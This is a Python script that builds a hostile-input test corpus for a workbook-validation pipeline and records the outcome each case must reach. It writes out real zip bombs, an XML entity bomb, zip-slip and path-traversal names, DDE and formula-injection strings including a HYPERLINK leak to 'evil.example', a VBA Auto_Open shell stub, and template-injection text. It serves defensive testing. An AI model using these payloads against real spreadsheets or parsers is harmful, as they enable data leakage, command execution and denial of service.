"""Make the hostile-input corpus (committed; tests/test_corpus.py reads it without rebuilding it).

Run from the repository root with the project's Python:  .venv/bin/python tests/corpus/make_corpus.py
It writes ``tests/corpus/files/<case>`` and ``tests/corpus/manifest.json``: one entry per case with
what it is, the name it gets in the inbox (some names are hostile themselves and are not stored
under them, so the repository checks out anywhere) and the outcome certpipe must reach:

- ``"expect": "rejected"`` with ``"keys"`` (the problem keys that must be among the problems) and,
  where the problem is in a cell, ``"cell"`` (``sheet!cell``, or just the cell's sheet when any cell
  of it will do);
- ``"expect": "done"`` with ``"audit_id"`` and ``"literal"``: field → the exact text that must appear,
  unevaluated, in the report (control characters are dropped first: Word cannot store them).

Workbooks are built with certpipe itself (build + fill through the defined names) and then tampered
with through openpyxl or byte by byte in the zip. The zip bomb is real: a sheet that inflates to 1 GiB.
"""

from __future__ import annotations

import io
import json
import shutil
import struct
import sys
import tempfile
import zipfile
import zlib
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(ROOT))

from openpyxl import Workbook, load_workbook  # noqa: E402

from pipeline.core.audit import Audit  # noqa: E402
from pipeline.excel.build import build_workbook  # noqa: E402
from pipeline.excel.fill import fill_audit  # noqa: E402
from pipeline.excel.samples import entries_for, samples  # noqa: E402
from pipeline.flow.standards import load_standard  # noqa: E402

FILES = HERE / "files"
FIXTURES = ROOT / "tests" / "fixtures" / "workbooks"
GBT = "gbt27922-2011"
SHEET = "售后服务评价"  # GB/T 27922's scoring sheet
COVER = "封面"

JINJA = "{{ 7*7 }} {% for x in range(3) %}x{% endfor %} {# c #} {%p if 1 %} {{ config.__class__ }}"
TEXT_FIELDS = ("org_name", "org_address", "scope", "audit_type", "lead_auditor", "auditors")

CASES: list[dict] = []


def case(name: str, what: str, expect: str, *, inbox_name: str | None = None, **more) -> Path:
    entry = {"case": name, "what": what, "file": name, "inbox_name": inbox_name or name, "expect": expect, **more}
    CASES.append(entry)
    return FILES / name


# ---- building blocks ------------------------------------------------------------------------------

def audit(audit_id: str, key: str = GBT, target: str = "88", notes: dict | None = None, **info) -> Audit:
    std = load_standard(key)
    base = samples([std])[0].audit
    return Audit(key, std.edition, replace(base.info, audit_id=audit_id, **info),
                 entries_for(std, Decimal(target)), notes if notes is not None else {std.leaves[0].code: "查阅记录"})


def filled(dest: Path, a: Audit) -> Path:
    with tempfile.TemporaryDirectory() as tmp:
        blank = build_workbook(load_standard(a.standard_key), a.info, Path(tmp) / "blank.xlsx")
        fill_audit(blank, dest, a)
    return dest


def edited(dest: Path, a: Audit, change) -> Path:
    filled(dest, a)
    wb = load_workbook(dest)
    change(wb)
    wb.save(dest)
    return dest


def rezip(src: Path, dest: Path, change_member=None, extra: dict | None = None) -> Path:
    """Copy a zip member by member, ``change_member(name, data) -> data`` on the way, ``extra`` added."""
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if change_member:
                data = change_member(info.filename, data)
            zout.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    dest.write_bytes(buf.getvalue())
    return dest


def replace_text(src: Path, dest: Path, old: bytes, new: bytes) -> Path:
    """Replace ``old`` by ``new`` in every XML member (the raw bytes, no escaping)."""
    return rezip(src, dest, lambda name, data: data.replace(old, new) if name.endswith(".xml") else data)


def base(name: str = "base.xlsx", audit_id: str = "X-BASE") -> Path:
    scratch = FILES.parent / ".scratch"
    scratch.mkdir(exist_ok=True)
    return filled(scratch / name, audit(audit_id))


# ---- the cases ----------------------------------------------------------------------------------

def not_workbooks() -> None:
    case("empty.xlsx", "an empty file", "rejected", keys=["intake.empty"]).write_bytes(b"")
    case("text.xlsx", "a text file renamed .xlsx", "rejected", keys=["intake.not_workbook"]).write_text(
        "评分：A.1 5 分\nA.2 4 分\n", encoding="utf-8")
    case("html.xlsx", "an HTML table renamed .xlsx (what some web systems 'export to Excel')", "rejected",
         keys=["intake.not_workbook"]).write_text(
        "<html><body><table><tr><td>=1+1</td><td>{{ 7*7 }}</td></tr></table></body></html>", encoding="utf-8")
    good = base().read_bytes()
    case("truncated.xlsx", "the first half of a workbook (a copy cut short)", "rejected",
         keys=["intake.truncated"]).write_bytes(good[: len(good) // 2])
    # a member whose compressed bytes are damaged: flip bytes in the middle of the scoring sheet
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        info = zf.getinfo("xl/worksheets/sheet2.xml")
    header = struct.unpack("<4s2B4HL2L2H", good[info.header_offset:info.header_offset + 30])
    start = info.header_offset + 30 + header[10] + header[11] + info.compress_size // 2
    damaged = bytearray(good)
    damaged[start:start + 16] = bytes(b ^ 0x5A for b in damaged[start:start + 16])
    case("corrupt-member.xlsx", "a zip whose scoring sheet's compressed bytes are damaged (CRC fails)",
         "rejected", keys=["intake.damaged"]).write_bytes(bytes(damaged))
    case("old.xls", "an Excel 97-2003 .xls (saved by LibreOffice)", "rejected", keys=["intake.xls"])
    shutil.copy(FIXTURES / "lo-old.xls", FILES / "old.xls")
    case("encrypted.xlsx", "a password-protected (encrypted) workbook", "rejected", keys=["intake.encrypted"])
    shutil.copy(FIXTURES / "lo-encrypted.xlsx", FILES / "encrypted.xlsx")
    ods = io.BytesIO()
    with zipfile.ZipFile(ods, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<office:document-content/>")
    case("ods.xlsx", "an OpenDocument spreadsheet renamed .xlsx", "rejected", keys=["intake.ods"]).write_bytes(
        ods.getvalue())
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    case("docx.xlsx", "a Word document renamed .xlsx", "rejected", keys=["intake.docx"]).write_bytes(docx.getvalue())
    wb = Workbook()
    wb.active.title = "Budget 2025"
    wb.active.append(["item", "amount"])
    wb.active.append(["=HYPERLINK(\"http://evil\")", 5])
    wb.save(case("other-program.xlsx", "a workbook from another program entirely (no _meta, no names)", "rejected",
                 keys=["val.meta_missing"]))


def bombs() -> None:
    # 1 GiB of XML whitespace in the scoring sheet, declared honestly in the zip: refused from the
    # central directory, before a byte is inflated.
    good = base()
    dest = case("zip-bomb.xlsx", "a zip bomb: a sheet that inflates to 1 GiB", "rejected",
                keys=["intake.member_too_large"])
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet2.xml":
                zout.writestr(info.filename, zin.read(info.filename))
                continue
            data = zin.read(info.filename)
            head, tail = data.split(b"<sheetData>", 1)
            with zout.open(info.filename, "w", force_zip64=True) as out:
                out.write(head + b"<sheetData>")
                block = b" " * (1 << 20)
                for _ in range(1024):
                    out.write(block)
                out.write(tail)
    # the same idea with a lying central directory: it declares the sheet's real size, the deflate
    # stream inflates to 256 MiB. A reader that trusts the header and inflates anyway is in trouble.
    lying = case("zip-bomb-lying.xlsx", "a zip bomb whose headers declare a small size (inflates to 256 MiB)",
                 "rejected", keys=["intake.damaged"])
    with zipfile.ZipFile(good) as zin:
        members = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    out = io.BytesIO()
    central = []
    for name, data in members:
        real = data
        if name == "xl/worksheets/sheet2.xml":
            head, tail = data.split(b"<sheetData>", 1)
            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
            parts = [comp.compress(head + b"<sheetData>")]
            block = b" " * (1 << 20)
            for _ in range(256):
                parts.append(comp.compress(block))
            parts.append(comp.compress(tail) + comp.flush())
            compressed, crc, size = b"".join(parts), zlib.crc32(data), len(data)  # the lie: CRC and size of `data`
        else:
            comp = zlib.compressobj(6, zlib.DEFLATED, -15)
            compressed, crc, size = comp.compress(real) + comp.flush(), zlib.crc32(real), len(real)
        raw = name.encode()
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(compressed), size, len(raw), 0))
        out.write(raw + compressed)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(compressed), size,
                                   len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    lying.write_bytes(out.getvalue())
    # one cell typed in the last cell of the sheet: a reader that makes a grid of the used range
    # allocates 17 billion cells (python-calamine aborts the whole process)
    far = case("far-cell.xlsx", "one cell typed at XFD1048576 (a used range of 17 billion cells)", "rejected",
               keys=["intake.sheet_too_large"], cell=f"{SHEET}!XFD1048576")
    rezip(good, far, lambda name, data: data.replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
        if name == "xl/worksheets/sheet2.xml" else data)


def identity() -> None:
    a = audit("C-IDENT")
    case("macro.xlsm", "a macro-enabled workbook (vbaProject.bin): read as data, macros never run", "done",
         audit_id="C-MACRO", literal={"org_name": "宏测试有限公司"})
    src = filled(FILES / "macro.xlsm", audit("C-MACRO", org_name="宏测试有限公司"))
    rezip(src, src, lambda name, data: data.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml") if name == "[Content_Types].xml" else data,
        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"\r\n"
               b"Sub Auto_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"})
    other = audit("C-OTHER", key="info-system-integration", target="182", org_name="另一标准有限公司")
    filled(case("other-standard.xlsx", "a workbook of another built-in standard: scored by that standard",
                "done", audit_id="C-OTHER", literal={"org_name": "另一标准有限公司"}), other)
    edited(case("unknown-standard.xlsx", "_meta names a standard that does not exist", "rejected",
                keys=["val.unknown_standard"]), a, lambda wb: wb["_meta"].cell(2, 2, "no-such-standard"))
    edited(case("old-edition.xlsx", "a workbook of an old edition of the standard", "rejected",
                keys=["val.other_edition"]), a, lambda wb: wb["_meta"].cell(3, 2, "2010"))
    edited(case("meta-deleted.xlsx", "the hidden _meta sheet deleted", "rejected", keys=["val.meta_missing"]),
           a, lambda wb: wb.remove(wb["_meta"]))
    edited(case("max-edited.xlsx", "a maximum edited (B.4: 10 → 20)", "rejected", keys=["val.max_edited"],
                cell=f"{SHEET}!D16"), a, lambda wb: wb[SHEET].cell(16, 4, 20))
    edited(case("indicator-deleted.xlsx", "an indicator's row deleted", "rejected", keys=["val.indicator_missing"]),
           a, lambda wb: wb[SHEET].delete_rows(9))
    edited(case("indicator-duplicated.xlsx", "an indicator's code duplicated", "rejected",
                keys=["val.indicator_duplicated"], cell=f"{SHEET}!A6"), a, lambda wb: wb[SHEET].cell(6, 1, "A.1"))

    def drop_names(wb):
        for name in list(wb.defined_names):
            del wb.defined_names[name]
    edited(case("names-removed.xlsx", "every defined name removed", "rejected", keys=["val.cover_name_lost"]),
           a, drop_names)

    def formulas(wb):
        wb[SHEET]["E5"] = "=2+3"
        wb[SHEET]["E6"] = "=E5"
    edited(case("score-formulas.xlsx", "formulas instead of scores", "rejected", keys=["val.score_formula"],
                cell=f"{SHEET}!E5"), a, formulas)
    edited(case("cover-formula.xlsx", "a formula in the organisation name", "rejected", keys=["val.cover_formula"],
                cell=COVER), a, lambda wb: wb[COVER].__setitem__(_ref(wb, "org_name"), '=HYPERLINK("http://evil","x")'))


def dates() -> None:
    for n, (text, ok) in enumerate((("2025-03-18", True), ("2025年3月18日", True), ("2025/3/18", True),
                                    ("18/03/2025", False), ("Mar 18, 2025", False), ("下周一", False))):
        name = f"date-text-{n + 1}.xlsx"
        what = f"the audit dates typed as text: {text!r}"
        a = audit(f"C-DATE{n + 1}")
        if ok:
            case(name, what, "done", audit_id=a.info.audit_id, literal={})
        else:
            case(name, what, "rejected", keys=["val.not_date"], cell=COVER)
        edited(FILES / name, a, lambda wb, text=text: [wb[COVER].__setitem__(ref, text) for ref in _date_cells(wb)])


def _ref(wb, name: str) -> str:
    (_, ref), = list(wb.defined_names[name].destinations)
    return ref.replace("$", "")


def _date_cells(wb) -> list[str]:
    return [_ref(wb, "audit_start"), _ref(wb, "audit_end")]


def text_cases() -> None:
    code = load_standard(GBT).leaves[0].code
    # 1 Mi characters (3 MiB of UTF-8) in one note, put into the XML directly: writers cut text at
    # Excel's 32,767 characters, a hand-made file need not
    big = case("note-1mb.xlsx", "a 1 MB note (Excel holds at most 32,767 characters in a cell)", "rejected",
               keys=["val.text_too_long"], cell=SHEET)
    replace_text(filled(big, audit("C-BIG", notes={code: "BIGNOTE"})), big, b"BIGNOTE",
                 ("证据" * (512 * 1024)).encode())
    # control characters: openpyxl refuses them, so a placeholder is replaced in the XML. OOXML's
    # own escape (_x0007_) and raw characters that XML 1.0 forbids.
    ctrl = audit("C-CTRL", org_name="控制PLACEHOLDER字符", notes={code: "响铃PLACEHOLDER记录"})
    src = filled(FILES / "control-chars.xlsx", ctrl)
    replace_text(src, src, b"PLACEHOLDER", b"_x0007__x001B_[31m_x0000_")
    case("control-chars.xlsx", "control characters (BEL, ESC, NUL) as OOXML escapes in the name and a note",
         "done", audit_id="C-CTRL", literal={"org_name": "控制\x07\x1b[31m\x00字符"})
    raw = audit("C-RAW", org_name="原始PLACEHOLDER字符")
    src = filled(FILES / "invalid-xml-chars.xlsx", raw)
    replace_text(src, src, b"PLACEHOLDER", b"\x01\x08\x0b")
    case("invalid-xml-chars.xlsx", "characters XML 1.0 forbids, raw in the sheet XML (read as they are)", "done",
         audit_id="C-RAW", literal={"org_name": "原始\x01\x08\x0b字符"})
    rtl = "שירות לקוחות خدمة العملاء 👍🏽👨‍👩‍👧 \u202egnp.exe"
    filled(case("rtl-emoji.xlsx", "right-to-left text, an RLO override and emoji", "done", audit_id="C-RTL",
                literal={"org_name": rtl, "scope": "🔧 维修 🛠️"}),
           audit("C-RTL", org_name=rtl, scope="🔧 维修 🛠️", notes={code: "✅ 👀 ‮反转‬"}))
    hostile_orgs = {
        "org-dotdot": "../../../etc/passwd",
        "org-separators": 'a/b\\c:d*e?f"g<h>|i',
        "org-con": "CON",
        "org-nul": "NUL",
        "org-300": "很长的组织名称" * 42 + "公司" * 3,
        "org-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
        "org-dde": "=cmd|' /C calc'!A0",
        "org-plus-minus-at": "+1+1 -2+3 @SUM(A1:A9)",
        "org-xml-special": "R&D <北京> \"双引号\" '单引号' ]]> &amp; &#x41;",
    }
    for n, (name, org) in enumerate(hostile_orgs.items()):
        audit_id = f"C-ORG{n + 1}"
        fields = {"org_name": org}
        if name == "org-plus-minus-at":
            fields = {"org_name": org, "org_address": "-1+1", "scope": "@SUM(1)", "lead_auditor": "+86 138"}
        filled(case(f"{name}.xlsx", f"organisation name {org[:60]!r}", "done", audit_id=audit_id, literal=fields),
               audit(audit_id, **fields))
    for audit_id, note in (("CON", "a reserved Windows name as the audit id"),
                           ("nul.txt", "a reserved Windows name with a suffix as the audit id")):
        filled(case(f"audit-id-{audit_id.replace('.', '-')}.xlsx", note, "done", audit_id=audit_id, literal={}),
               audit(audit_id))
    filled(case("audit-id-traversal.xlsx", "an audit id that climbs out of the outbox", "rejected",
                keys=["val.audit_id_bad"], cell=COVER), audit("../../outside"))
    filled(case("audit-id-300.xlsx", "a 300-character audit id", "rejected", keys=["val.audit_id_bad"], cell=COVER),
           audit("A" * 300))
    jinja = {f: f"{f}: {JINJA}" for f in TEXT_FIELDS if f != "audit_type"}  # (a closed list: checked, not free)
    notes = {leaf.code: f"{leaf.code} {JINJA}" for leaf in load_standard(GBT).leaves}
    filled(case("jinja-everywhere.xlsx", "Jinja-looking text in every text field and every note", "done",
                audit_id="C-JINJA", literal=jinja), audit("C-JINJA", notes=notes, **jinja))
    traversal = case("zip-member-traversal.xlsx", "extra zip members named ../../tmp/… and /etc/… (never extracted)",
                     "done", audit_id="C-ZIPSLIP", literal={})
    rezip(filled(traversal, audit("C-ZIPSLIP")), traversal,
          extra={"../../../../tmp/certpipe-zipslip.txt": b"escaped", "/etc/certpipe-zipslip.txt": b"escaped"})
    laughs = case("billion-laughs.xlsx", "an XML entity bomb (DOCTYPE with nested entities) in workbook.xml: "
                  "entities are never expanded", "done", audit_id="C-LOL", literal={})
    dtd = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                     for i in range(1, 10)) + "]>").encode()
    rezip(filled(laughs, audit("C-LOL")), laughs,
          lambda name, data: dtd + data.replace(b"<workbookPr/>", b"<workbookPr/><!-- &lol9; -->")
          if name == "xl/workbook.xml" else data)


def hostile_file_names() -> None:
    """Rejected content under hostile inbox names: the rejected folder must still be a safe name."""
    names = {
        "name-con.bin": "CON.xlsx",
        "name-nul.bin": "nul.xlsx",
        "name-colon-star.bin": "a:b*c?d|e.xlsx",
        "name-backslash.bin": "evil\\..\\..\\x.xlsx",  # a leading dot would make it a hidden file, ignored
        "name-formula.bin": "=cmd|' C calc'!A0.xlsx",
        "name-long.bin": "很长的文件名" * 13 + ".xlsx",
        "name-newline.bin": "two\nlines.xlsx",
    }
    for stored, inbox_name in names.items():
        case(stored, f"a text file named {inbox_name!r} in the inbox", "rejected", inbox_name=inbox_name,
             keys=["intake.not_workbook"]).write_text(f"not a workbook ({stored})", encoding="utf-8")
    # a name that is not UTF-8 (from another system's share): stored as bytes in the manifest
    raw = b"latin1-caf\xe9-\xff.xlsx"
    case("name-not-utf8.bin", f"a file whose name is not UTF-8 ({raw!r})", "rejected",
         inbox_name=raw.decode("utf-8", "replace"), inbox_name_hex=raw.hex(),
         keys=["intake.not_workbook"]).write_text("not a workbook (bytes)", encoding="utf-8")


def main() -> None:
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir(parents=True)
    not_workbooks()
    bombs()
    identity()
    dates()
    text_cases()
    hostile_file_names()
    shutil.rmtree(FILES.parent / ".scratch", ignore_errors=True)
    names = [c["case"] for c in CASES]
    assert len(names) == len(set(names)), "duplicate case names"
    (HERE / "manifest.json").write_text(json.dumps(CASES, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    total = sum(p.stat().st_size for p in FILES.iterdir())
    print(f"{len(CASES)} cases, {total / 1048576:.1f} MiB in {FILES}")


if __name__ == "__main__":
    main()
